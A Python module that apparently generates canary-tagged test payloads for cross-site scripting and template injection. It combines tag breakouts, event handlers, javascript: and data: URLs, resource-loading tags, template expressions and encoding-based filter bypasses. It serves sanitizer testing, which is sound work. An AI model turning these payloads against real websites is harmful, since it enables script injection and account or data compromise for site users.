"""Hostile texts, built by combining the ways in which markup is smuggled into a page.

Each calls ``canary(number)`` if it runs, or asks ``http://canary.test/number`` if anything is loaded.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import cycle, product
from urllib.parse import quote

__all__ = ["payloads"]

# What leaves a place in a page before the payload proper, and what mends it after.
_BREAKS = (
    ("", ""), ('">', ""), ("'>", ""), ("</textarea>", ""), ("</title>", ""), ("</script>", ""), ("</style>", ""),
    ("-->", "<!--"),
    ("]]>", ""), ("<svg><style>", "</style></svg>"), ("<math><mtext><table><mglyph><style><!--</style>", ""),
    ("<noscript><p title='</noscript>", "'></noscript>"), ("<select><option></select>", ""), ("<b\x0c", "</b>"),
    ("\u2028", "\u2029"),
    ("＜b＞", ""), ("<form><math><mtext></form><form><mglyph><style></math>", ""), ("{{'a'}}", ""),
)  # fmt: skip
_CALLS = ("canary({0})", "window['can'+'ary']({0})", "top.canary`{0}`", "eval('can'+'ary({0})')", "(canary)({0});alert({0})")
_EVENTS = (
    ("img src=x", "onerror"), ("svg", "onload"), ("body", "onpageshow"), ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("input autofocus", "onfocus"), ("marquee", "onstart"), ("style", "onload"), ("iframe src=/", "onload"),
    ("object data=x", "onerror"),
    ("a id=x tabindex=1 autofocus", "onfocusin"), ("div style=animation-name:x", "onanimationstart"),
    ("link rel=icon href=/", "onload"),
)  # fmt: skip
_SCHEMES = (
    "javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", "java&Tab;script:{0}", "&#106;avascript:{0}",
    " \x01javascript:{0}",
    "javascript&colon;{0}", "vbscript:{0}", "data:text/html,<script>parent.{0}</script>",
    "data:image/svg+xml,<svg onload='{0}'/>",
    "blob:{0}", "feed:javascript:{0}", "javascript://%0a{0}",
)  # fmt: skip
_LINKED = (
    '<a href="{0}">Jadwal</a>', '<form action="{0}"><button>Kirim</button></form>', '<iframe src="{0}"></iframe>',
    '<object data="{0}"></object>', '<embed src="{0}">', '<button formaction="{0}">OK</button>', '<base href="{0}//">',
    '<svg><a xlink:href="{0}"><text y=9>x</text></a></svg>', '<math href="{0}">x</math>', "{0}", "https://rapat.example/{0}",
    '<meta http-equiv="refresh" content="0;url={0}">', '<area shape=default href="{0}">',
)  # fmt: skip
_LOADED = (
    '<img src="{0}">', '<img srcset="{0} 1x">', '<link rel=stylesheet href="{0}">', "<style>@import '{0}';</style>",
    '<p style="background:url({0})">x</p>', '<video poster="{0}"></video>', '<input type=image src="{0}">',
    '<table background="{0}">',
    '<svg><image href="{0}"/></svg>', '<svg><use href="{0}#x"/></svg>', '<link rel=prefetch href="{0}">', '<audio src="{0}">',
    '<meta http-equiv=refresh content="0;url={0}">', '<script src="{0}"></script>',
    '<script type=module>import "{0}"</script>',
    '<picture><source srcset="{0}"><img></picture>', '<iframe srcdoc="<img src={0}>"></iframe>',
    '<a ping="{0}" href="#">x</a>',
    "![x]({0})", "[x]: {0}", "<style>*{{background-image:url('{0}')}}</style>", '<link rel=dns-prefetch href="{0}">',
)  # fmt: skip
_TEMPLATES = (
    "{{{{{0}*7}}}}", "{{% for x in range({0}) %}}x{{% endfor %}}", "${{{0}*7}}", "#{{{0}*7}}", "<%= {0}*7 %>",
    "{{{{config.{0}}}}}",
    "{{{{''.__class__.__mro__[{0}]}}}}", "{{{{constructor.constructor('canary({0})')()}}}}", "{0!s}%s%(x)s{{}}{{0}}",
    "{{#if {0}}}x{{/if}}",
)  # fmt: skip
_GUISES: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    str,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: "".join(f"&#{ord(sign)};" for sign in text),
    lambda text: "".join(f"&#x{ord(sign):x};" for sign in text),
    str,
    lambda text: quote(text, safe=""),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "<\x00"),
    str,
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("=", " =\n"),
    lambda text: text.replace("<", "\u202e<\u202c"),
    lambda text: text.replace("script", "scr<script>ipt"),
)


def payloads(count: int) -> list[str]:
    """So many different texts, the same ones every time."""
    found: dict[str, None] = {}
    families = [_scripts(), _events(), _links(), _loads(), _templates()]
    for _, family in zip(range(count * 20), cycle(families), strict=False):
        made = next(family, None)
        if made is not None:
            found[made] = None
        if len(found) == count:
            return list(found)
    raise AssertionError(f"only {len(found)} different texts")


def _dressed(bodies: Iterator[str]) -> Iterator[str]:
    for body, (before, after), guise in zip(bodies, cycle(_BREAKS), cycle(_GUISES), strict=False):
        yield guise(before + body + after)


def _numbered(texts: Iterator[str], beginning: int) -> Iterator[str]:
    for number, text in enumerate(texts, beginning):
        yield text.replace("{0}", str(number))


def _scripts() -> Iterator[str]:
    forms = ("<script>{0}</script>", "<ScRiPt >{0}</sCrIpT>", "<script/x>{0}</script", "<svg><script>{0}</script></svg>")
    return _dressed(_numbered((form.replace("{0}", call) for form, call in product(forms, _CALLS)), 1000))


def _events() -> Iterator[str]:
    forms = ('<{1} {2}="{0}">', "<{1} {2}={0} ", "<{1}/{2}='{0}'//>")
    made = (
        form.replace("{1}", tag).replace("{2}", event).replace("{0}", call)
        for form, (tag, event), call in product(forms, _EVENTS, _CALLS)
    )
    return _dressed(_numbered(made, 2000))


def _links() -> Iterator[str]:
    made = (form.replace("{0}", scheme.replace("{0}", "canary({0})")) for scheme, form in product(_SCHEMES, _LINKED))
    return _dressed(_numbered(made, 3000))


def _loads() -> Iterator[str]:
    hosts = ("http://canary.test/{0}", "//canary.test/{0}", "http:\\\\canary.test\\{0}", "https://canary.test:443/{0}")
    made = (form.format(host) for host, form in product(hosts, _LOADED))
    return _dressed(_numbered(made, 4000))


def _templates() -> Iterator[str]:
    return (form.format(number) for number, form in enumerate(cycle(_TEMPLATES), 5000))
